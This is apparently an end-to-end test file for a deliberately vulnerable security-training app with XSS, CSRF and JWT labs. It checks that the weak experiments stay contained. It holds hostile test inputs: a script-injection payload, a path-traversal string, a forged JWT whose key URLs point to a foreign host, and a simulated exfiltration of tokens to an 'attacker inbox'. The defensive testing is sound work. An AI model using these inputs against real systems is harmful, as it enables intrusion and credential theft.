import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { expectProblem } from './client/expectations'
import { logInWithJwt, newcomer } from './client/people'
import { ofAttacker, ofExperiments, routes } from './client/routes'
import { visitor } from './client/visitor'
import { send } from './client/wire'
import { expect, test } from './servers/test'

/**
 * The walls around what is weak on purpose, asked of every address that the app's folders make: a new one is not
 * forgotten.
 */

const ROUTES = routes()
const RUN = 'w'.repeat(24)
const METHODS = ['GET', 'POST', 'PUT', 'DELETE']
const inDevelopment = (path: string) => path.includes('[')

test('the list of addresses is complete enough to mean something', () => {
  for (const path of [
    '/experiments/csrf',
    '/experiments/xss/lab/shop',
    '/experiments/csrf/stand',
    '/experiments/csrf/lab/jwt/me',
    '/api/session/me',
    '/experiments/xss/attacker/inbox',
    '/experiments/cors/attacker/messenger',
    '/experiments/csrf/attacker/stand',
    '/session/admin',
    '/claims',
  ])
    expect(ROUTES.map((each) => each.path)).toContain(path)
  expect(ROUTES.filter(ofExperiments).length).toBeGreaterThan(60)
  expect(ROUTES.filter(({ path }) => inDevelopment(path))).toEqual([])
})

test("with EXPERIMENTS=off every page and endpoint of every experiment is a 404, the attacker's pages too, and no action is there to be asked", async ({
  startNode,
}) => {
  const { origin, env } = await startNode({
    env: { INSPECTOR: 'off', EXPERIMENTS: 'off' },
    rewrite: (given) => ({ ...given, ATTACKER_ORIGIN: `http://127.0.0.1:${given.PORT}` }),
  })
  for (const { path, isPage } of ROUTES.filter((each) => ofExperiments(each) || ofAttacker(each)))
    for (const host of [new URL(origin).host, `127.0.0.1:${env.PORT}`]) {
      for (const method of isPage ? ['GET'] : METHODS)
        expect
          .soft(
            (await send(origin, { method, path: `${path}?run=${RUN}`, headers: [['Host', host]] })).status,
            `${method} ${path} at ${host}`,
          )
          .toBe(404)
      // Of a form or an action that nobody has, the frame says 400 or 409 before Next looks for the page.
      const asked = isPage
        ? await send(origin, {
            method: 'POST',
            path,
            headers: [
              ['Host', host],
              ['Next-Action', 'a'.repeat(42)],
              ['Content-Type', 'text/plain'],
              ['Origin', origin],
            ],
            body: '[]',
          })
        : null
      if (asked) expect.soft([400, 404, 409], `an action of ${path}`).toContain(asked.status)
      if (asked) expect.soft(asked.text, path).not.toMatch(/data-phase|"verdicts"/)
    }
  const sources = ['app/experiments', 'app/_features/claims', 'app/attacker'].flatMap((folder) =>
    readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .filter((file) => /\.tsx?$/.test(file))
      .map((file) => join(folder, file)),
  )
  expect(sources.filter((file) => readFileSync(file, 'utf8').includes("'use server'"))).toEqual([])
  for (const mode of ['session', 'jwt'])
    expectProblem(await visitor(origin).post(`/api/${mode}/forget`), 404, 'not_found')
  expectProblem(
    await visitor(origin).post('/api/replay', { mode: 'jwt', variant: 'cookie', credential: 'x' }),
    404,
    'not_found',
  )
})

test("at the attacker's origin nothing of the app answers, whatever is asked and however", async ({ servers }) => {
  for (const { path } of ROUTES.filter((each) => !ofAttacker(each) && each.path !== '/'))
    for (const method of METHODS)
      expect
        .soft((await send(servers.attacker, { method, path: `${path}?run=${RUN}` })).status, `${method} ${path}`)
        .toBe(404)
  for (const { path } of ROUTES.filter(ofAttacker))
    for (const method of ['POST', 'PUT', 'DELETE', 'PATCH'])
      expect
        .soft((await send(servers.attacker, { method, path: `${path}?run=${RUN}` })).status, `${method} ${path}`)
        .toBe(405)
})

test("what is the attacker's is nowhere at the app, and all of it answers at his origin", async ({ servers }) => {
  for (const { path, isPage } of ROUTES.filter(ofAttacker)) {
    for (const origin of [servers.a, servers.b])
      expect.soft((await send(origin, { path: `${path}?run=${RUN}` })).status, `${origin}${path}`).toBe(404)
    const { status } = await send(servers.attacker, { path: `${path}?run=${RUN}&step=over` })
    expect.soft(status, path).toBe(isPage ? 200 : 204)
  }
})

test("by the spelling that Next gives the data of pages nothing answers, the attacker's least of all", async ({
  servers,
}) => {
  const build = readFileSync('.next/BUILD_ID', 'utf8')
  for (const { path } of [...ROUTES, { path: '/_global-error' }])
    for (const origin of [servers.a, servers.b, servers.attacker])
      for (const data of [`/_next/data/${build}`, `/_next//data/${build}`, `/_next/%64ata/${build}`]) {
        const asked = `${origin}${data}${path === '/' ? '/index' : path}.json`
        const answer = await send(origin, { path: `${asked.slice(origin.length)}?run=${RUN}` })
        expect.soft(answer.status, asked).toBe(404)
      }
})

test("what is sent to the attacker's endpoints at our origin is refused unread", async ({ servers }) => {
  const damaged = { headers: [['Content-Type', 'multipart/form-data; boundary=x']] as [string, string][], body: 'x' }
  for (const { path } of ROUTES.filter(ofAttacker))
    for (const method of ['POST', 'PUT', 'DELETE', 'PATCH'])
      expect.soft((await send(servers.a, { method, path, ...damaged })).status, `${method} ${path}`).toBe(404)
})

const policyOf = (headers: Record<string, string>) =>
  Object.fromEntries(
    (headers['content-security-policy'] ?? '')
      .split('; ')
      .map((directive) => [directive.split(' ')[0] ?? '', directive.split(' ').slice(1).join(' ')]),
  )

test("only the endpoints of an experiment bring a policy of their own: every other answer has the app's, without an exception", async ({
  servers,
}) => {
  const weak: string[] = []
  for (const { path, isPage } of ROUTES.filter((each) => !ofAttacker(each)))
    for (const origin of [servers.a, servers.b]) {
      const { headers } = await send(origin, { path: `${path}?run=${RUN}&page=counter&who=frame&step=over` })
      const policy = policyOf(headers)
      expect.soft(policy['default-src'], path).toMatch(isPage ? /^'self'$/ : /^'(none|self)'$/)
      expect.soft(headers['x-content-type-options'], path).toBe('nosniff')
      if (policy['script-src'] !== undefined && /unsafe|\*|https?:/.test(policy['script-src'])) weak.push(path)
      if (policy['frame-ancestors'] !== "'none'") weak.push(`${origin === servers.a ? 'a' : 'b'} ${path}`)
    }
  // Framed by its own origin: what a link of seven-steps leads to, and the page that keeps tokens. By the app: the
  // shop. By our nodes: a stand.
  const both = ['csrf/stand', 'seven-steps/lab/arrivals', 'token-storage/lab/jwt/page'].flatMap((path) => [
    `a /experiments/${path}`,
    `b /experiments/${path}`,
  ])
  expect(weak.toSorted()).toEqual([...both, 'b /experiments/xss/lab/shop'].toSorted())
})

test('A12: the one page that runs every script is at node B only, reaches two addresses, and says nothing of its own address', async ({
  servers,
}) => {
  const path = `/experiments/xss/lab/shop?run=${RUN}`
  const weak = await send(servers.b, { path: `${path}&page=s1-readable-none&comment=<script>alert(1)</script>` })
  expect(weak.status).toBe(200)
  expect(weak.text).not.toContain('alert(1)')
  expect(policyOf(weak.headers)).toEqual({
    'default-src': "'none'",
    'script-src': "'unsafe-inline'",
    'connect-src': `${servers.b}/experiments/xss/lab/ ${servers.attacker}/experiments/xss/attacker/inbox`,
    'form-action': "'none'",
    'base-uri': "'none'",
    'frame-ancestors': servers.a,
    sandbox: 'allow-scripts allow-same-origin',
  })
  const fixed = await send(servers.b, { path: `${path}&page=s1-readable-nonce` })
  expect(policyOf(fixed.headers)).toEqual({
    ...policyOf(weak.headers),
    'script-src': expect.stringMatching(/^'nonce-[\w-]{16,}'$/),
  })
  for (const page of ['', 'nothing', 's1-readable', '__proto__'])
    expect((await send(servers.b, { path: `${path}&page=${page}` })).status, page).toBe(404)
  for (const origin of [servers.a, servers.attacker])
    expect((await send(origin, { path: `${path}&page=s1-readable-none` })).status, origin).toBe(404)
  for (const run of ['', 'short', '../../../../../../../../etc', `${RUN}<b>`])
    expect(
      (await send(servers.b, { path: `/experiments/xss/lab/shop?page=counter&run=${encodeURIComponent(run)}` })).status,
      run,
    ).toBe(404)
})

test("A41: the attacker's inbox keeps what an experiment let be stolen, and nobody's real credential", async ({
  servers,
}) => {
  const [mine, other] = ['m', 'o'].map((letter) => letter.repeat(24)) as [string, string]
  const { ticket } = (await visitor(servers.a).post('/experiments/xss/lab/guest', {})).json<{ ticket: string }>()
  const lab = (
    await visitor(servers.a).post('/experiments/xss/lab/jwt/login', { ticket, variant: 'bearer-storage' })
  ).json<{ access_token: string }>().access_token
  const elsewhere = (
    await visitor(servers.a).post('/experiments/csrf/lab/jwt/login', { ticket, variant: 'bearer-storage' })
  ).json<{ access_token: string }>().access_token
  const real = await logInWithJwt(servers.a, await newcomer(servers.a))
  const pieces = [
    ['localStorage:lab-token', lab],
    ['localStorage:lab-token', real.access],
    ['localStorage:lab-refresh', real.refresh],
    ['answer:access_token', elsewhere],
    ['cookie:password', 'hunter2'],
  ]
    .map(([name, value]) => `&stolen=${name}:${value}`)
    .join('')
  const sent = await send(servers.attacker, { path: `/experiments/xss/attacker/inbox?run=${mine}&from=j1${pieces}` })
  expect([sent.status, sent.text]).toEqual([204, ''])
  const inboxOf = async (run: string) =>
    (await visitor(servers.a).get(`/experiments/xss/lab/arrivals?run=${run}&node=sibling`)).text
  const kept = await inboxOf(mine)
  expect(JSON.parse(kept)).toMatchObject({
    arrivals: [
      {
        by: 'inbox',
        from: 'j1',
        notes: {
          stolen: [`localStorage:lab-token:${lab}`],
          other: Array.from({ length: 4 }, () => 'no credential of this experiment'),
        },
      },
    ],
  })
  for (const secret of [real.access, real.refresh, elsewhere, 'hunter2']) expect(kept).not.toContain(secret)
  expect(JSON.parse(await inboxOf(other))).toEqual({ arrivals: [] })
  expect((await send(servers.attacker, { path: '/experiments/xss/attacker/inbox?run=short' })).status).toBe(404)
})

test('no request of an experiment leaves this machine, whatever address it is given', async ({ startNode }) => {
  const folder = mkdtempSync(join(tmpdir(), 'jwt-vs-session-connections-'))
  const noted = join(folder, 'noted')
  writeFileSync(noted, '')
  try {
    const { origin } = await startNode({
      env: {
        NODE_OPTIONS: `--import=${pathToFileURL('e2e/reliability/note-connections.mjs')}`,
        CONNECTIONS_NOTED: noted,
      },
    })
    const foreign = 'http://192.0.2.1/keys.json'
    const header = Buffer.from(
      JSON.stringify({ alg: 'RS256', typ: 'at+jwt', kid: foreign, jku: foreign, x5u: foreign }),
    ).toString('base64url')
    const token = `${header}.${Buffer.from(JSON.stringify({ iss: foreign, sub: 'x' })).toString('base64url')}.AAAA`
    for (const { path } of ROUTES.filter(ofExperiments))
      for (const extra of [{}, { bearer: token }])
        await visitor(origin).get(`${path}?run=${RUN}&node=sibling&url=${foreign}`, extra)
    const ask = (path: string, body: object) => visitor(origin).post(`/experiments/${path}`, body, { bearer: token })
    await ask('forging/lab/verify', { tokens: [token], on: [] })
    await ask('services/lab/ask-service', { token, url: foreign })
    for (const body of [{}, { node: 'sibling' }, { node: foreign }, { origin: foreign }])
      await ask('csrf/lab/replay', { mode: 'jwt', variant: 'cookie', credential: token, ...body })
    for (const mode of ['session', 'jwt']) await visitor(origin).get(`/api/${mode}/me`, { bearer: token })
    expect(readFileSync(noted, 'utf8')).toBe('')
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
})
